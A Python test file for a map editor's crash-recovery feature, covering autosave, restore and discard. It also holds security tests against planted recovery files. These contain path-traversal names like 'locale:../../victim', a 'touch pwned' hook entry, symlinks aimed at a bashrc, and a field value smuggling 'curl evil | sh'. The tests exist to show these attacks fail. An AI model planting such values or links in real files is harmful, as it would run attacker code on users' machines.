"""Unsaved work survives a crash: kept every minute in the scenario's recovery file, offered back
at the next opening as one undo step, and gone after a save or a deliberate discard."""
from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

pytest.importorskip("PySide6")

from PySide6.QtWidgets import QMessageBox  # noqa: E402

from editor import recovery  # noqa: E402
from editor.main_window import AUTOSAVE_MS  # noqa: E402

from editor_windows import close_window, new_window  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
# An editor that edits, keeps its work for recovery (as its timer does every minute), and is killed.
CRASHING = """
import os, signal, sys
sys.path.insert(0, {repo!r})
from PySide6.QtCore import QSettings
from PySide6.QtWidgets import QApplication
app = QApplication([])
from editor.main_window import MainWindow
window = MainWindow(QSettings({ini!r}, QSettings.IniFormat))
window.open_folder({folder!r})
window.document.set_field("map", (("spaces", ("id", "finland")),), ("name",), "Suomi")
window.translation_panel.show_locale("zh-Hans")
window.translation_panel.remove_locale()
window.autosave()
os.kill(os.getpid(), signal.SIGKILL)
"""


def open_window(monkeypatch, tmp_path, folder, answer):
    """Open the scenario; any question is answered `answer`, and remembered."""
    asked = []

    def question(*args, **kwargs):
        asked.append(args[2])
        return answer
    monkeypatch.setattr(QMessageBox, "question", question)
    window = new_window(tmp_path)
    window.open_folder(folder)
    return window, asked


def test_work_kept_before_a_crash_is_offered_back(qtbot, tmp_path, workshop, monkeypatch):
    script = CRASHING.format(repo=str(REPO), ini=str(tmp_path / "crash.ini"), folder=str(workshop))
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen")
    done = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, timeout=120)
    assert done.returncode == -9, done.stderr.decode()
    assert (workshop / ".sandtable-recovery").is_file()
    before = (workshop / "map.yaml").read_text()
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    assert len(asked) == 1 and asked[0].startswith("Unsaved work of ")
    spaces = {s["id"]: s for s in window.document.own("map")["spaces"]}
    assert spaces["finland"]["name"] == "Suomi"
    assert window.document.locale_tags == []      # the locale it had taken out
    assert window.document.is_dirty() and window.document.undo_stack.count() == 1
    assert (workshop / "map.yaml").read_text() == before          # nothing written until a save
    window.document.undo_stack.undo()
    assert next(s for s in window.document.own("map")["spaces"] if s["id"] == "finland")["name"] == "Finland"
    window.document.undo_stack.redo()
    assert window.save()
    assert not (workshop / ".sandtable-recovery").exists()
    assert "Suomi" in (workshop / "map.yaml").read_text()
    assert not (workshop / "locales" / "zh-Hans.yaml").exists()
    close_window(window)


def test_declining_the_offer_drops_the_recovery_file(qtbot, tmp_path, workshop, monkeypatch):
    window, _ = open_window(monkeypatch, tmp_path, workshop, QMessageBox.No)
    assert window.autosave_timer.isActive() and window.autosave_timer.interval() == AUTOSAVE_MS == 60_000
    window.autosave()
    assert not (workshop / ".sandtable-recovery").exists()     # nothing unsaved, nothing kept
    window.scene.rename("norway", "Norge")
    window.autosave()
    kept = recovery.read(window.document)
    assert list(kept.files) == ["map"] and kept.removed == []
    close_window(window)
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.No)
    assert len(asked) == 1 and not (workshop / ".sandtable-recovery").exists()
    assert not window.document.is_dirty()
    close_window(window)


def test_the_recovery_file_is_not_a_scenario_file(tmp_path, workshop):
    from sandtable.scenario import load_scenario
    (workshop / ".sandtable-recovery").write_text("written: 1\nfiles: {}\n", encoding="utf-8")
    assert [d.code for d in load_scenario(workshop).diagnostics] == []


# -- a recovery file from elsewhere is never trusted ---------------------------------------------
POSIX = pytest.mark.skipif(os.name != "posix", reason="symbolic links as on POSIX")


def plant(folder: Path, files: dict, removed=(), written=1_700_000_000, scenario=None) -> Path:
    """A recovery file as a cloned repository could carry one: naming this scenario (unless
    `scenario` says otherwise), with the given entries."""
    import yaml
    ident = {"id": "workshop", "folder": str(folder.resolve())} if scenario is None else scenario
    path = folder / ".sandtable-recovery"
    path.write_text(yaml.safe_dump({"scenario": ident, "written": written, "files": files,
                                    "removed": list(removed)}), encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", ["locale:../../victim", "locale:../../../victim", "../victim",
                                  "locale:de\n", "locale:", "Map", "locale:zh-hans", 5])
def test_a_restored_file_kind_must_be_a_scenario_file(qtbot, tmp_path, workshop, monkeypatch, kind):
    """Restore unsaved work? -> Yes -> Save never writes a file the scenario does not have: the
    kind `locale:../../victim` once rewrote a file two folders up."""
    victim = tmp_path / "victim.yaml"
    victim.write_text("repos: []\n", encoding="utf-8")
    plant(workshop, {kind: {"repos": [{"repo": "local", "hooks": [{"entry": "touch pwned"}]}]}})
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    assert asked == []                                     # not offered at all
    assert "was not offered back" in window.statusBar().currentMessage()
    assert "not a file of a scenario" in window.statusBar().currentMessage()
    window.scene.rename("norway", "Norge")                 # an ordinary edit, then a save
    assert window.save()
    assert victim.read_text(encoding="utf-8") == "repos: []\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["editor.ini", "victim.yaml", "workshop"]
    close_window(window)


def test_a_removed_entry_must_be_a_locale(tmp_path, workshop, qtbot):
    from editor.document import ScenarioDocument
    plant(workshop, {}, removed=["map"])
    with pytest.raises(recovery.RecoveryRefused, match="'map', which is not a file of a scenario"):
        recovery.read(ScenarioDocument(workshop))


def test_the_document_refuses_a_kind_that_is_not_a_file_kind(tmp_path, workshop, qtbot):
    """The cause, below the recovery file: no edit can make the document hold a file that is
    not one of the scenario's, whatever asks."""
    from editor.document import ScenarioDocument
    document = ScenarioDocument(workshop)
    with pytest.raises(ValueError, match="not a kind of scenario file"):
        document.set_value("locale:../../victim", ("locale",), "x")
    assert "locale:../../victim" not in document.files and not document.is_dirty()


def test_restore_then_save_writes_a_new_locale_inside_the_folder(qtbot, tmp_path, workshop, monkeypatch):
    plant(workshop, {"locale:de": {"locale": "de", "entries": {"spaces.norway.name": {"text": "Norwegen"}}}})
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    assert len(asked) == 1 and asked[0].startswith("Unsaved work of 2023-11-")
    assert window.document.locale_tags == ["de", "zh-Hans"]
    assert window.save()
    assert "Norwegen" in (workshop / "locales" / "de.yaml").read_text(encoding="utf-8")
    assert not (workshop / ".sandtable-recovery").exists()
    close_window(window)


@POSIX
@pytest.mark.parametrize("linked", ["before opening", "after opening"])
def test_a_new_locale_is_not_saved_through_a_locales_folder_linked_outside(
        qtbot, tmp_path, workshop, monkeypatch, linked):
    """PATH001 when the file is first held (the link was there at opening) and at the write
    itself (it appeared while the editor was open)."""
    outside = tmp_path / "outside"
    outside.mkdir()

    def link_out():
        shutil.rmtree(workshop / "locales")
        (workshop / "locales").symlink_to(outside, target_is_directory=True)
    if linked == "before opening":
        link_out()
    window, _ = open_window(monkeypatch, tmp_path, workshop, QMessageBox.No)
    window.document.add_locale("de")
    shown = []
    monkeypatch.setattr(QMessageBox, "critical", lambda *a, **k: shown.append(a[2]))
    if linked == "before opening":
        assert window.document.files["locale:de"].problem.code == "PATH001"
        window.save()
    else:
        link_out()
        assert not window.save()
        assert "locales/de.yaml leads outside workshop/ (through a link or ..); nothing was written" in shown[0]
    assert list(outside.iterdir()) == []
    close_window(window)


def test_a_recovery_file_of_another_scenario_is_not_offered(qtbot, tmp_path, workshop, monkeypatch):
    other = tmp_path / "other"
    shutil.copytree(workshop, other)
    for scenario in ({"id": "workshop", "folder": str(other.resolve())},      # another folder
                     {"id": "elsewhere", "folder": str(workshop.resolve())},    # another scenario
                     None):
        path = plant(workshop, {"map": {"spaces": []}}, scenario=scenario)
        if scenario is None:   # an older file, naming no scenario
            text = path.read_text(encoding="utf-8")
            path.write_text("\n".join(line for line in text.splitlines()
                                      if not line.startswith(("scenario:", "  folder:", "  id:"))) + "\n")
        window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
        assert asked == [] and not window.document.is_dirty()
        assert window.statusBar().currentMessage() == (
            "Unsaved work was not offered back: .sandtable-recovery was written for another "
            "scenario (or another folder)")
        close_window(window)


@pytest.mark.parametrize("written", [-1e300, 1e300, 10 ** 15, -1, "soon", True, None])
def test_a_bad_written_time_never_stops_the_scenario_from_opening(qtbot, tmp_path, workshop, monkeypatch, written):
    """-1e300 once raised out of time.localtime while the scenario opened; the time the file
    was last changed stands in for any time a clock cannot show."""
    path = plant(workshop, {"map": {**recovery_map(workshop), "notes": "kept"}}, written=written)
    os.utime(path, (1_600_000_000, 1_600_000_000))
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    when = time.strftime("%Y-%m-%d %H:%M", time.localtime(1_600_000_000))
    assert asked and asked[0].startswith(f"Unsaved work of {when} was found")
    assert window.document.own("map")["notes"] == "kept"
    close_window(window)


@pytest.mark.parametrize("written", [".nan", ".inf", "-.inf", "1" * 5000])
def test_a_written_time_the_reader_refuses_only_drops_the_offer(qtbot, tmp_path, workshop, monkeypatch, written):
    path = plant(workshop, {"map": {"notes": "kept"}})
    path.write_text(path.read_text(encoding="utf-8").replace("written: 1700000000", f"written: {written}"),
                    encoding="utf-8")
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    assert asked == [] and window.document is not None and "notes" not in window.document.own("map")
    assert window.statusBar().currentMessage().startswith(
        "Unsaved work was not offered back: .sandtable-recovery cannot be read: ")
    close_window(window)


def recovery_map(folder: Path) -> dict:
    from sandtable.yamlsource import read_yaml_file
    return read_yaml_file(folder / "map.yaml").data


def test_an_unknowable_time_is_shown_as_such():
    assert recovery.Recovered(-1e300, {}, []).when == "an unknown time"
    assert recovery.Recovered(float("nan"), {}, []).when == "an unknown time"


@POSIX
def test_autosave_replaces_a_linked_recovery_file_and_never_writes_through_it(qtbot, tmp_path, workshop, monkeypatch):
    """A cloned repository can carry `.sandtable-recovery -> ../.bashrc`: the recovery YAML (with
    a note of several lines from the map) once replaced the link's target."""
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("export PATH=$PATH\n", encoding="utf-8")
    link = workshop / ".sandtable-recovery"
    link.symlink_to(Path("..") / "bashrc")
    window, asked = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    assert asked == [] and "is a link" in window.statusBar().currentMessage()   # nor read through
    window.scene.rename("norway", "Norge\ncurl evil | sh")
    window.autosave()
    assert bashrc.read_text(encoding="utf-8") == "export PATH=$PATH\n"
    assert not link.is_symlink() and "Norge" in link.read_text(encoding="utf-8")
    link.unlink()
    link.symlink_to(Path("..") / "bashrc")
    assert window.save()                                   # discarding removes the link itself
    assert not os.path.lexists(link) and bashrc.read_text(encoding="utf-8") == "export PATH=$PATH\n"
    close_window(window)


@POSIX
def test_a_dangling_recovery_link_is_not_followed_to_create_its_target(qtbot, tmp_path, workshop, monkeypatch):
    link = workshop / ".sandtable-recovery"
    link.symlink_to(tmp_path / "created-by-autosave")
    window, _ = open_window(monkeypatch, tmp_path, workshop, QMessageBox.Yes)
    window.scene.rename("norway", "Norge")
    window.autosave()
    assert not (tmp_path / "created-by-autosave").exists() and not link.is_symlink()
    close_window(window)
